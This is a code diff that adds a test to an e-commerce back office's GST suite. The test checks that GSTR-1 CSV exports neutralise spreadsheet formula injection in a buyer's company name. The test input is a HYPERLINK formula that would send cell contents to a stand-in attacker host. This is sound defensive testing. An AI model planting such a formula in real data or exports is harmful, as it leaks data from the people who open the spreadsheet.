@@ -283,4 +283,54 @@ describe("GST in the back office", () => {
     });
     expect(unknown.statusCode).toBe(404);
   });
+
+  it("GSTR-1 tables carry a buyer's company name as text, never as a formula", async () => {
+    const hostile = '=HYPERLINK("http://evil.example/?"&A2,"x")';
+    const address = await api(testApp.app).post<{ id: number }>(
+      "/v1/customer/address",
+      {
+        ...DELHI_ADDRESS,
+        line1: "14, Laxmi Road",
+        city: "Pune",
+        state: "Maharashtra",
+        pincode: "411002",
+        company: hostile,
+        gstin: "27AAGFM5823Q1ZO",
+      },
+      { token: buyer.token },
+    );
+    expect(address.statusCode, JSON.stringify(address.body)).toBe(201);
+    keySerial += 1;
+    const placed = await api(testApp.app).post<OrderDto>(
+      "/v1/order",
+      {
+        items: [{ productId: lamp, quantity: 2 }],
+        addressId: address.data.id,
+        toPayShipping: true,
+        paymentMethod: "bank-transfer",
+      },
+      { token: buyer.token, headers: { "idempotency-key": `gst-formula-${keySerial}-${Date.now()}` } },
+    );
+    expect(placed.statusCode, JSON.stringify(placed.body)).toBe(201);
+    await toDispatched(placed.data.id);
+    const month = new Intl.DateTimeFormat("en-CA", {
+      timeZone: "Asia/Kolkata",
+      year: "numeric",
+      month: "2-digit",
+    })
+      .format(new Date())
+      .slice(0, 7);
+    const Papa = (await import("papaparse")).default;
+    const b2b = await download(ownerCookie, `/v1/admin/gst/gstr1?month=${month}&table=b2b`);
+    expect(b2b.statusCode).toBe(200);
+    const [header, ...rows] = Papa.parse<string[]>(b2b.body, { skipEmptyLines: true }).data;
+    const name = header?.indexOf("Receiver Name") ?? -1;
+    const value = header?.indexOf("Invoice Value") ?? -1;
+    const ours = rows.filter((row) => row[name] === `'${hostile}`);
+    expect(ours.length).toBeGreaterThan(0);
+    for (const row of rows) {
+      for (const cell of row) expect(/^[=+\-@\t\r]/.test(cell), cell).toBe(false);
+      expect(row[value]).toMatch(/^\d+\.\d{2}$/);
+    }
+  });
 });
